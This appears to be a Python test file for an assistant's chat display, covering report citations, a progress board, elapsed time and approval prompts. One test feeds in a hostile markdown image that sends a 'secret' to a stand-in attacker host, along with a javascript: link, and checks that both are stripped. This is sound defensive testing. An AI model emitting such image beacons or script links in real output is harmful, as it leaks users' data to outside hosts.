"""What the chat shows for progress, the report and questions: pure functions, no server."""

from __future__ import annotations

from assistant.approvals import approval_request
from assistant.events import Progress, ProgressItem, State
from assistant.ui.approvals import question_markdown
from assistant.ui.formatting import board_markdown, elapsed, report_for_chat

REPORT = """# Tides

Tides rise twice a day [1][2]. The moon matters most [2].

## Sources

[1] Tides explained — https://example.test/a

[2] Moon pull — https://example.test/b
"""


def test_sources_become_links_and_citations_point_at_them() -> None:
    shown = report_for_chat(REPORT)
    assert "1. [Tides explained](https://example.test/a)" in shown
    assert "2. [Moon pull](https://example.test/b)" in shown
    assert "[\\[1\\]](https://example.test/a)[\\[2\\]](https://example.test/b)" in shown


def test_the_report_never_loads_images_or_runs_links() -> None:
    hostile = REPORT.replace(
        "The moon",
        "![x](https://evil.test/leak?d=secret) [click](javascript:alert(1)) The moon",
    )
    shown = report_for_chat(hostile)
    assert "evil.test" not in shown
    assert "javascript:" not in shown
    assert "[image: x]" in shown and "click" in shown


def test_the_board_names_each_item_with_its_state() -> None:
    board = Progress(
        "c1",
        "Researching: Tides",
        (
            ProgressItem("History", State.DONE, "3 sources"),
            ProgressItem("Costs", State.SEARCHING),
            ProgressItem("Outlook", State.KEPT),
        ),
        started_at=100.0,
    )
    shown = board_markdown(board, now=142.0)
    assert shown.startswith("**Researching: Tides** · 2 of 3 done · 0:42")
    assert "1. ✅ **History** · done — 3 sources" in shown
    assert "2. 🔎 **Costs** · searching" in shown
    assert "3. ♻️ **Outlook** · kept from before" in shown
    stopped = board_markdown(board, now=142.0, stopped=True)
    assert "2. ⏹️ **Costs** · stopped" in stopped
    assert "1. ✅ **History** · done" in stopped


def test_elapsed_time_reads_as_minutes_and_seconds() -> None:
    assert elapsed(0) == "0:00"
    assert elapsed(725.9) == "12:05"


def test_a_question_says_what_it_asks_and_what_can_be_answered() -> None:
    request = approval_request(
        "calculate",
        {"expression": "6 * 7"},
        "Run **Calculator** with `6 * 7`",
        title="Run Calculator?",
    )
    shown = question_markdown(request)
    assert shown.startswith("**Run Calculator?**")
    assert "Run **Calculator** with `6 * 7`" in shown
    assert "approve it, edit it, reject it or type what should change" in shown
    again = question_markdown(request.model_copy(update={"error": "bad *markdown*"}))
    assert again.startswith("> ⚠️ That answer could not be used: bad \\*markdown\\*")
